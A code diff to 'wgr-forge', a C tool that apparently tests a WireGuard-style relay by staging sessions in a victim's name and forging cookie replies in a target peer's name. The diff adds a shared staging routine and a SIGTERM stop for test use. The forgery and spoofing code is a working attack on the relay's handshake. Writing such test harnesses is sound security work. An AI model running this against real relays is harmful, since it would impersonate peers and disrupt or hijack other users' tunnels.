@@ -70,16 +70,15 @@
  * PUBKEY, the others alternately responses with mac1 for PUBKEY and cookie
  * replies, all with random indices (a CGNAT neighbour's junk).
  *
- *   wgr-forge cookieslot ADDR PORT SECONDS PPS PUB_BAIT PUB_TARGET
+ *   wgr-forge cookieslot ADDR PORT SECONDS PUB_BAIT PUB_TARGET PUB_VICTIM
  *
- * Cookie replies forged in TARGET's name (helper-79, H2): socket B initiates to
- * BAIT once a second, so that it is a discovery candidate; sockets of its own
- * initiate to TARGET, each every 2.5 s, PPS (1-3) a second in all (unanswered:
- * their retries with the relay's mac2 are failing, and copied to candidates),
- * and B answers each copy naming
- * TARGET, 30 ms and 300 ms later, with cookie replies sealed under TARGET's
- * cookie key (the key is public), as only TARGET should. Exits 0 if it forged
- * any.
+ * Cookie replies forged in TARGET's name (helper-79, H2), from an endpoint the
+ * relay has a session of TARGET's at: it stages one as hold does (VICTIM at A,
+ * TARGET at B), then A initiates to TARGET once a second without mac2, which
+ * the pair route takes to B alone, and B answers each with two cookie replies
+ * sealed under TARGET's cookie key (the key is public), as only TARGET should.
+ * Prints "forging from now on" once staged; exits 0 if it forged any. SIGTERM
+ * ends it early, with its report.
  *
  *   wgr-forge onedata ADDR PORT SPORT INDEX COUNTER [TTL]
  *
@@ -206,6 +205,7 @@
 #include <netinet/ip6.h>
 #include <netinet/udp.h>
 #include <poll.h>
+#include <signal.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -307,23 +307,31 @@ static void hchacha20(uint8_t out[32], const uint8_t key[32], const uint8_t nonc
 	}
 }
 
+/* Keystream block @block of XChaCha20 under subkey @sub, with the nonce's last 8 bytes. */
+static void xchacha20_block(uint8_t out[64], const uint8_t sub[32], uint32_t block,
+			    const uint8_t nonce[24])
+{
+	uint32_t x[16], in[16];
+
+	chacha_init(in, sub);
+	in[12] = block;
+	in[13] = 0;
+	in[14] = le32(nonce + 16);
+	in[15] = le32(nonce + 20);
+	memcpy(x, in, sizeof(x));
+	chacha_rounds(x);
+	for (int i = 0; i < 16; i++)
+		put_le32(out + 4 * i, x[i] + in[i]);
+}
+
 /* XChaCha20 keystream XOR, from block 1 (block 0 is Poly1305's key in the AEAD). */
 static void xchacha20_xor(uint8_t *buf, size_t len, const uint8_t key[32], const uint8_t nonce[24])
 {
 	uint8_t sub[32], ks[64];
-	uint32_t x[16], in[16];
 
 	hchacha20(sub, key, nonce);
 	for (size_t off = 0, block = 1; off < len; off += 64, block++) {
-		chacha_init(in, sub);
-		in[12] = (uint32_t)block;
-		in[13] = 0;
-		in[14] = le32(nonce + 16);
-		in[15] = le32(nonce + 20);
-		memcpy(x, in, sizeof(x));
-		chacha_rounds(x);
-		for (int i = 0; i < 16; i++)
-			put_le32(ks + 4 * i, x[i] + in[i]);
+		xchacha20_block(ks, sub, (uint32_t)block, nonce);
 		for (size_t i = 0; i < 64 && off + i < len; i++)
 			buf[off + i] ^= ks[i];
 	}
@@ -442,22 +450,13 @@ static void xchacha20poly1305_seal(uint8_t *buf, size_t len, const uint8_t *ad, 
 				   const uint8_t nonce[24], const uint8_t key[32])
 {
 	uint8_t sub[32], block0[64], mac_in[2 * SEAL_MAX + 16];
-	size_t n;
-	uint32_t x[16], in[16];
 	struct poly1305 p;
+	size_t n;
 
 	if (len > SEAL_MAX || ad_len > SEAL_MAX)
 		abort();
 	hchacha20(sub, key, nonce);
-	chacha_init(in, sub);
-	in[12] = 0;
-	in[13] = 0;
-	in[14] = le32(nonce + 16);
-	in[15] = le32(nonce + 20);
-	memcpy(x, in, sizeof(x));
-	chacha_rounds(x);
-	for (int i = 0; i < 16; i++)
-		put_le32(block0 + 4 * i, x[i] + in[i]);
+	xchacha20_block(block0, sub, 0, nonce);
 	xchacha20_xor(buf, len, key, nonce);
 	/* What is authenticated: each part padded with zeros to whole blocks. */
 	memset(mac_in, 0, sizeof(mac_in));
@@ -703,6 +702,38 @@ static bool initiation_for(const uint8_t *msg, const uint8_t *pub)
 	return !memcmp(copy + 116, msg + 116, 16);
 }
 
+/* Where a staging is (hold, cookieslot): B's bait sent, A's try, B's answer. */
+struct staging {
+	int phase;	/* 0 idle, 1 bait sent, 2 target sent, 3 responded (4: cookieslot's) */
+	double next, t_target;
+	uint32_t s_index;
+	long tries;
+};
+
+/*
+ * A staging's sends at @t: every 5 s B asks for @bait, so that it is a
+ * discovery candidate; 0.2 s later A asks for @target with a fresh index.
+ */
+static void staging_tick(struct staging *st, struct hsock hs[2], const uint8_t *bait,
+			 const uint8_t *target, double t, long *with_mac2)
+{
+	if (t >= st->next) {
+		uint32_t idx;
+
+		fill_random(&idx, sizeof(idx));
+		hsock_initiate(&hs[1], bait, idx, with_mac2);
+		st->phase = 1;
+		st->t_target = t + 0.2;
+		st->next = t + 5;
+		st->tries++;
+	}
+	if (st->phase == 1 && t >= st->t_target) {
+		fill_random(&st->s_index, sizeof(st->s_index));
+		hsock_initiate(&hs[0], target, st->s_index, with_mac2);
+		st->phase = 2;
+	}
+}
+
 /*
  * hold, and squat: with @keys2 (BAIT2, TARGET2), once a staging has passed (or a
  * third of the time is up) the next ones use BAIT2 and TARGET2 with the same
@@ -717,12 +748,12 @@ static int hold(const struct sockaddr_storage *to, socklen_t len, long seconds, 
 	struct held held[HOLD_MAX];
 	struct hsock hs[2] = { { 0 }, { 0 } };	/* A, B */
 	unsigned int n_held = 0, next_held = 0;
-	long stages = 0, staged = 0, copies = 0, answered = 0, data = 0, fwd_data = 0;
+	long staged = 0, copies = 0, answered = 0, data = 0, fwd_data = 0;
 	long cookies = 0, with_mac2 = 0, confirms = 0, evictions = 0;
 	uint8_t other[8][32];
-	uint32_t s_index = 0, r_index = 0;
-	double start = now_s(), next_stage = start, next_data = start + 5, t_target = 0;
-	int phase = 0;	/* 0 idle, 1 bait sent, 2 target sent, 3 responded */
+	double start = now_s(), next_data = start + 5;
+	struct staging st = { 0 };
+	uint32_t r_index = 0;
 
 	if (!parse_keys(k, keys, 3) || (keys2 && !parse_keys(k2, keys2, 2)) ||
 	    n_others > 8 || (n_others && !parse_keys(other, others, n_others))) {
@@ -745,22 +776,7 @@ static int hold(const struct sockaddr_storage *to, socklen_t len, long seconds, 
 			memcpy(k[1], k2[1], 32);
 			keys2 = NULL;
 		}
-		if (t >= next_stage) {
-			uint32_t idx;
-
-			/* B asks for BAIT, so that it is a discovery candidate. */
-			fill_random(&idx, sizeof(idx));
-			hsock_initiate(&hs[1], k[0], idx, &with_mac2);
-			phase = 1;
-			t_target = t + 0.2;
-			next_stage = t + 5;
-			stages++;
-		}
-		if (phase == 1 && t >= t_target) {
-			fill_random(&s_index, sizeof(s_index));
-			hsock_initiate(&hs[0], k[1], s_index, &with_mac2);
-			phase = 2;
-		}
+		staging_tick(&st, hs, k[0], k[1], t, &with_mac2);
 		if (t >= next_data) {
 			for (unsigned int i = 0; i < n_held; i++) {
 				make_data(msg, held[i].index, held[i].counter++);
@@ -784,11 +800,11 @@ static int hold(const struct sockaddr_storage *to, socklen_t len, long seconds, 
 				uint32_t sender = get_le32(msg + 4);
 
 				copies++;
-				if (i == 1 && phase == 2 && sender == s_index) {
+				if (i == 1 && st.phase == 2 && sender == st.s_index) {
 					/* Our own staged initiation: answer as VICTIM's partner. */
-					r_index = make_response(msg, s_index, k[2]);
+					r_index = make_response(msg, st.s_index, k[2]);
 					send(fd, msg, 92, 0);
-					phase = 3;
+					st.phase = 3;
 					continue;
 				}
 				/* A real peer's initiation: answer in every name. */
@@ -830,16 +846,16 @@ static int hold(const struct sockaddr_storage *to, socklen_t len, long seconds, 
 				cookie_open(hs[i].cookie, msg, hs[i].last_pub);
 				hs[i].cookie_time = now_s();
 				cookies++;
-			} else if (msg[0] == 2 && n == 92 && i == 0 && phase == 3 &&
-				   get_le32(msg + 8) == s_index && get_le32(msg + 4) == r_index) {
+			} else if (msg[0] == 2 && n == 92 && i == 0 && st.phase == 3 &&
+				   get_le32(msg + 8) == st.s_index && get_le32(msg + 4) == r_index) {
 				/* The relay passed our response on: confirm it, hold both indices. */
 				make_data(msg, r_index, 0);
 				send(fd, msg, 32, 0);
 				staged++;
-				phase = 0;
+				st.phase = 0;
 				held[next_held] = (struct held){ hs[0].fd, r_index, 1 };
 				next_held = (next_held + 1) % HOLD_MAX;
-				held[next_held] = (struct held){ hs[1].fd, s_index, 0 };
+				held[next_held] = (struct held){ hs[1].fd, st.s_index, 0 };
 				next_held = (next_held + 1) % HOLD_MAX;
 				n_held = n_held + 2 > HOLD_MAX ? HOLD_MAX : n_held + 2;
 			} else if (msg[0] == 4) {
@@ -850,7 +866,7 @@ static int hold(const struct sockaddr_storage *to, socklen_t len, long seconds, 
 	printf("hold: %ld stagings tried, %ld passed by the relay; %ld relay cookies, %ld "
 	       "initiations with mac2; %ld initiation copies received, %ld forged responses "
 	       "to them; %ld data sent on held indices, %ld data received\n",
-	       stages, staged, cookies, with_mac2, copies, answered, data, fwd_data);
+	       st.tries, staged, cookies, with_mac2, copies, answered, data, fwd_data);
 	if (from_victim)
 		printf("confirm: %ld forged answers confirmed in their initiator's name, %ld "
 		       "initiations for others spoofed after them\n", confirms, evictions);
@@ -858,100 +874,137 @@ static int hold(const struct sockaddr_storage *to, socklen_t len, long seconds, 
 }
 
 /*
- * cookieslot: socket B initiates to BAIT once a second, so that it is a
- * discovery candidate. Sockets A initiate to TARGET, never answered, each every
- * 2.5 s (the relay counts a try towards failing only 2 s after the one before
- * it), so many of them that @pps go a second in all: their tries with the
- * relay's mac2 are failing, and copied to candidates. B answers every copy
- * naming TARGET with two cookie replies sealed in TARGET's name (as many as the
- * relay takes), 30 ms and 300 ms later: after TARGET's own reply to the same
- * initiation, if it is under load, whatever its latency. The queue stays in
- * order of due time while @pps is at most 3.
+ * cookieslot: first a staging as hold's: B initiates to BAIT (a discovery
+ * candidate then), A to TARGET, every 5 s until A's tries with the relay's mac2
+ * are failing and copied to B, which answers in VICTIM's name; A confirms. The
+ * relay then has a session of TARGET's at B, and a pair route from A to it.
+ * From then on A initiates to TARGET once a second without mac2, which the
+ * route takes to B alone (TARGET never sees them, so never answers them), and B
+ * answers each with two cookie replies sealed in TARGET's name, 30 ms and
+ * 300 ms later. Data on both staged indices every 5 s keeps the session live.
  */
 #define SLOT_QUEUE 64
-#define SLOT_A_MAX 8
-#define SLOT_A_PERIOD 2.5
+#define SLOT_SENT 8
+
+/* SIGTERM ends cookieslot early, with its report: a test stops it when done. */
+static volatile sig_atomic_t slot_stop;
+
+static void slot_term(int sig)
+{
+	(void)sig;
+	slot_stop = 1;
+}
 
 static int cookieslot(int argc, char **argv)
 {
 	struct { double due; uint32_t sender; uint8_t mac1[16]; } q[SLOT_QUEUE];
-	struct hsock hs[SLOT_A_MAX + 1] = { { 0 } };	/* B, then the As */
+	uint32_t r_index = 0, sent_idx[SLOT_SENT] = { 0 }, idx;
 	long seconds = argc == 8 ? strtol(argv[4], NULL, 10) : 0;
-	long pps = argc == 8 ? strtol(argv[5], NULL, 10) : 0;
-	long sent = 0, with_mac2 = 0, copies = 0, forged = 0, cookies = 0;
-	double start, next[SLOT_A_MAX + 1];
-	struct pollfd pfd[SLOT_A_MAX + 1];
-	unsigned int q_head = 0, q_len = 0;
+	long routed = 0, with_mac2 = 0, copies = 0, forged = 0, cookies = 0;
+	struct hsock hs[2] = { { 0 }, { 0 } };	/* A, B */
+	double start, next_routed = 0, next_data = 0;
 	struct sockaddr_storage ss = { 0 };
-	uint8_t k[2][32], msg[1600];	/* bait, target */
+	uint8_t k[3][32], msg[1600];	/* bait, target, victim */
+	unsigned int q_len = 0, n_sent = 0;
+	struct staging st = { 0 };	/* phase 4: staged */
+	uint64_t counter = 1;
 	socklen_t sslen;
-	int n_a;
 
-	if (seconds <= 0 || seconds > 3600 || pps <= 0 || pps > 3 ||
-	    !(sslen = parse_ep(&ss, argv[2], argv[3])) || !parse_keys(k, argv + 6, 2)) {
-		fprintf(stderr, "usage: wgr-forge cookieslot ADDR PORT SECONDS(1..3600) PPS(1..3) "
-				"PUB_BAIT PUB_TARGET\n");
+	if (seconds <= 0 || seconds > 3600 || !(sslen = parse_ep(&ss, argv[2], argv[3])) ||
+	    !parse_keys(k, argv + 5, 3)) {
+		fprintf(stderr, "usage: wgr-forge cookieslot ADDR PORT SECONDS(1..3600) "
+				"PUB_BAIT PUB_TARGET PUB_VICTIM\n");
 		return 2;
 	}
-	n_a = (int)(pps * SLOT_A_PERIOD + 0.5);
-	if (n_a > SLOT_A_MAX)
-		n_a = SLOT_A_MAX;
+	signal(SIGTERM, slot_term);
+	hs[0].fd = stage_socket(&ss, sslen);
+	hs[1].fd = stage_socket(&ss, sslen);
 	start = now_s();
-	for (int i = 0; i <= n_a; i++) {
-		hs[i].fd = stage_socket(&ss, sslen);
-		pfd[i] = (struct pollfd){ .fd = hs[i].fd, .events = POLLIN };
-		next[i] = i ? start + (i - 1) * SLOT_A_PERIOD / n_a : start;
-	}
-	while (now_s() - start < seconds) {
+	while (!slot_stop && now_s() - start < seconds) {
+		struct pollfd pfd[2] = { { .fd = hs[0].fd, .events = POLLIN },
+					 { .fd = hs[1].fd, .events = POLLIN } };
 		double t = now_s();
-		uint32_t idx;
 
-		for (int i = 0; i <= n_a; i++) {
-			if (t < next[i])
-				continue;
+		if (st.phase < 4)
+			staging_tick(&st, hs, k[0], k[1], t, &with_mac2);
+		if (st.phase == 4 && t >= next_routed) {
+			/* No mac2: the pair route, not the binding, takes it. */
 			fill_random(&idx, sizeof(idx));
-			hsock_initiate(&hs[i], k[i ? 1 : 0], idx, &with_mac2);
-			sent += !!i;
-			next[i] = t + (i ? SLOT_A_PERIOD : 1);
+			initiation_from(msg, k[1], idx);
+			memset(msg + 132, 0, 16);
+			if (send(hs[0].fd, msg, 148, 0) >= 0)
+				routed++;
+			sent_idx[n_sent++ % SLOT_SENT] = idx;
+			next_routed = t + 1;
 		}
-		while (q_len && q[q_head].due <= t) {
-			cookie_forge(msg, q[q_head].sender, q[q_head].mac1, k[1]);
-			if (send(hs[0].fd, msg, 64, 0) >= 0)
+		if (st.phase == 4 && t >= next_data) {
+			make_data(msg, r_index, counter);
+			send(hs[0].fd, msg, 32, 0);
+			make_data(msg, st.s_index, counter++);
+			send(hs[1].fd, msg, 32, 0);
+			next_data = t + 5;
+		}
+		for (unsigned int j = 0; j < q_len;) {
+			if (q[j].due > t) {
+				j++;
+				continue;
+			}
+			cookie_forge(msg, q[j].sender, q[j].mac1, k[1]);
+			if (send(hs[1].fd, msg, 64, 0) >= 0)
 				forged++;
-			q_head = (q_head + 1) % SLOT_QUEUE;
-			q_len--;
+			q[j] = q[--q_len];
 		}
-		if (poll(pfd, n_a + 1, 10) <= 0)
+		if (poll(pfd, 2, 5) <= 0)
 			continue;
-		for (int i = 0; i <= n_a; i++) {
+		for (int i = 0; i < 2; i++) {
 			ssize_t n;
 
 			if (!(pfd[i].revents & POLLIN))
 				continue;
 			n = recv(hs[i].fd, msg, sizeof(msg), MSG_DONTWAIT);
-			if (!i && n == 148 && msg[0] == 1 && initiation_for(msg, k[1]) &&
-			    q_len + 2 <= SLOT_QUEUE) {
-				/* The relay takes two answers of each kind from an endpoint. */
-				for (int a = 0; a < 2; a++) {
-					unsigned int j = (q_head + q_len++) % SLOT_QUEUE;
+			if (i == 1 && n == 148 && msg[0] == 1) {
+				uint32_t sender = get_le32(msg + 4);
+				bool ours = false;
 
-					q[j].due = t + (a ? 0.3 : 0.03);
-					q[j].sender = get_le32(msg + 4);
-					memcpy(q[j].mac1, msg + 116, 16);
-				}
 				copies++;
+				for (unsigned int j = 0; j < SLOT_SENT; j++)
+					ours |= n_sent && sent_idx[j] == sender;
+				if (st.phase == 2 && sender == st.s_index) {
+					/* Our own staged initiation: answer as VICTIM's partner. */
+					r_index = make_response(msg, st.s_index, k[2]);
+					send(hs[1].fd, msg, 92, 0);
+					st.phase = 3;
+				} else if (st.phase == 4 && ours && initiation_for(msg, k[1]) &&
+					   q_len + 2 <= SLOT_QUEUE) {
+					for (int a = 0; a < 2; a++) {
+						q[q_len].due = t + (a ? 0.3 : 0.03);
+						q[q_len].sender = sender;
+						memcpy(q[q_len++].mac1, msg + 116, 16);
+					}
+				}
 			} else if (n == 64 && msg[0] == 3 && hs[i].last_pub &&
 				   get_le32(msg + 4) == hs[i].last_sender) {
 				/* The relay's cookie: its key is the target's public key. */
 				cookie_open(hs[i].cookie, msg, hs[i].last_pub);
 				hs[i].cookie_time = now_s();
 				cookies++;
+			} else if (i == 0 && n == 92 && msg[0] == 2 && st.phase == 3 &&
+				   get_le32(msg + 8) == st.s_index && get_le32(msg + 4) == r_index) {
+				/* The relay passed our response on: confirm it. */
+				make_data(msg, r_index, 0);
+				send(hs[0].fd, msg, 32, 0);
+				st.phase = 4;
+				next_data = t + 5;
+				printf("cookieslot: staged after %ld tries: forging from now on\n", st.tries);
+				fflush(stdout);
 			}
 		}
 	}
-	printf("cookieslot: %ld initiations for the target from %d sockets (%ld of all with "
-	       "mac2), %ld relay cookies; %ld copies received, %ld cookie replies forged in the "
-	       "target's name\n", sent, n_a, with_mac2, cookies, copies, forged);
+	printf("cookieslot: %ld stagings tried, %s; %ld relay cookies, %ld initiations with "
+	       "mac2; %ld routed initiations for the target, %ld initiations received at B, "
+	       "%ld cookie replies forged in the target's name\n", st.tries,
+	       st.phase == 4 ? "one passed" : "none passed", cookies, with_mac2, routed, copies,
+	       forged);
 	return forged ? 0 : 1;
 }
 
